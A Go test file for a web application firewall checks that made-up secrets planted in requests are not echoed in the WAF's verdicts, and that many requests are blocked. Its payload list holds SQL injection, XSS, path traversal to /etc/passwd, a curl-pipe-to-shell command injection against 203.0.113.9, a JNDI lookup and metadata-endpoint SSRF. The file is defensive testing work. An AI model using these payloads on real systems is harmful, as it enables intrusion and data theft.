package waftest

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/weirgate/weir"
	"github.com/weirgate/weir/waf"
)

// secrets are made up: wallets of six kinds, tokens, cards, accounts, mails, telephone numbers.
var secrets = []string{
	"0x52908400098527886E0F7030069857D2E4169EE7", "0xde0B295669a9FD93d5F28D9Ec85E40f4cb697BAe",
	"0x653351a883a4a82512dbaceadd9d9ef266658547829a0d30d7aaf26647a144cb",
	"1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2", "3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy", "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq",
	"GBRPYHIL2CI3FNQ4BXLFMNDLFJUNPU2HY3ZMFSHONUCEOASW7QC7OX2H", "7xKXtg2CW87d97TXJSDpbD5jBkheTqA83TZRuJosgAsU",
	"rEb8TK3gBgk5auZkwc6sHnwrGVJH8DuaLh", "ltc1qw508d6qejxtdg4y5r3zarvary0c5xw7kgmn4n9", "addr1qx2fxv2umyhttkxyxp8x0dlpdt3k6cwng5pxj3jhsydzer3jcu5d8ps7zex2k2xt3uqxgjqnnj83ws8lhrn648jjxtwq2ytjqp",
	"sk_live_4eC39HqLyjWDarjtT1zdp7dc", "ghp_16C7e42F292c6912E7710c838347Ae178B4a", "xoxb-123456789012-1234567890123-4mt0t4l1yf4k3t0k3n", "AKIAIOSFODNN7EXAMPLE",
	"eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4ifQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJVadQssw5c",
	"wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "AIzaSyD4iE2xVSpkLLOXoyqT-RuPwURN3ddScAI", "glpat-9fZx2kQm7VtR4wLp3sNd", "npm_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8",
	"123e4567-e89b-12d3-a456-426614174000", "5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8", "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",
	"whsec_5fMdR8qL2vXzK9tYbN3wPjHs7cGe4uAo", "dop_v1_b7d2f4a1c9e83056d4b2f1a7c8e9305d",
	"4111 1111 1111 1111", "5500-0000-0000-0004", "378282246310005", "6011111111111117",
	"DE89 3704 0044 0532 0130 00", "GB82WEST12345698765432", "NO9386011117947", "FR1420041010050500013M02606",
	"ola.nordmann@example.com", "kari+test@mail.example.org", "j_doe99@sub.domain.example",
	"+47 22 12 34 56", "+1 (555) 010-9999", "004915112345678", "+33 6 12 34 56 78",
}

// shapes are attacks around a secret, which stands for %s.
var shapes = []string{
	"%s' OR '1'='1", "1' UNION SELECT '%s'-- -", "%s'; DROP TABLE users;-- ", "' OR mail='%s' AND SLEEP(5)-- -", "1 UNION SELECT password FROM users WHERE w='%s'",
	"<script>alert('%s')</script>", `"><img src=x onerror=alert("%s")>`, "<svg/onload=fetch('//x/?%s')>", "javascript:alert('%s')",
	"../../../../etc/passwd?%s", "/etc/shadow %s", "; cat /etc/passwd | grep '%s'", "$(curl http://203.0.113.9/%s|sh)", "`whoami` %s", "${jndi:ldap://x/%s}",
	"http://169.254.169.254/latest/?%s", "php://filter/resource=%s", "<?php system('%s'); ?>", "require('child_process').exec('echo %s')", "__proto__ %s {{7*7}}",
}

// Secrets puts every secret into every shape, in the path, the query, a field, a cookie and JSON, and fails
// if ten bytes in a row of one come out in anything that the WAF says.
func Secrets(t *testing.T, w *waf.WAF) {
	blocked := 0
	for _, secret := range secrets {
		for _, shape := range shapes {
			text := fmt.Sprintf(shape, secret)
			for place, in := range planted(t, text) {
				var r weir.Inspection
				w.Inspect(t.Context(), in, &r)
				if r.Verdict == weir.Blocked {
					blocked++
				}
				if piece := leak(fmt.Sprintf("%+v", r), secret); piece != "" {
					t.Errorf("%s: %q in %q: %+v", place, piece, text, r)
				}
			}
		}
	}
	t.Logf("%d secrets in %d shapes: %d requests blocked", len(secrets), len(shapes), blocked)
	if all := len(secrets) * len(shapes) * 5; blocked < all/2 {
		t.Errorf("%d of %d are blocked: that shows little", blocked, all)
	}
}

// planted returns requests that say text somewhere.
func planted(t *testing.T, text string) map[string]*waf.Input {
	body, err := json.Marshal(map[string]any{"note": text, text: 1})
	if err != nil {
		t.Fatal(err)
	}
	header := func(more ...string) http.Header {
		h := http.Header{"User-Agent": {"curl/8.10.1"}, "Accept": {"*/*"}}
		for i := 0; i < len(more); i += 2 {
			h.Set(more[i], more[i+1])
		}
		return h
	}
	list := map[string]*waf.Input{
		"path":   {Method: "GET", Path: "/v1/scores/" + url.PathEscape(text), Header: header()},
		"query":  {Method: "GET", Path: "/v1/x", Query: "q=" + url.QueryEscape(text), Header: header()},
		"field":  {Method: "GET", Path: "/v1/x", Header: header("Referer", text, "User-Agent", text, "Authorization", text)},
		"cookie": {Method: "GET", Path: "/v1/x", Header: header("Cookie", "track="+text)},
		"JSON":   {Method: "POST", Path: "/v1/x", Header: header("Content-Type", "application/json"), Body: body},
	}
	for _, in := range list {
		in.Mode, in.Proto, in.Host = weir.Enforce, "HTTP/1.1", "secrets.test"
	}
	return list
}

// leak returns ten bytes in a row of secret that are in said, or nothing.
func leak(said, secret string) string {
	said, secret = strings.ToLower(said), strings.ToLower(secret)
	for i := 0; i+10 <= len(secret); i++ {
		if strings.Contains(said, secret[i:i+10]) {
			return secret[i : i+10]
		}
	}
	return ""
}
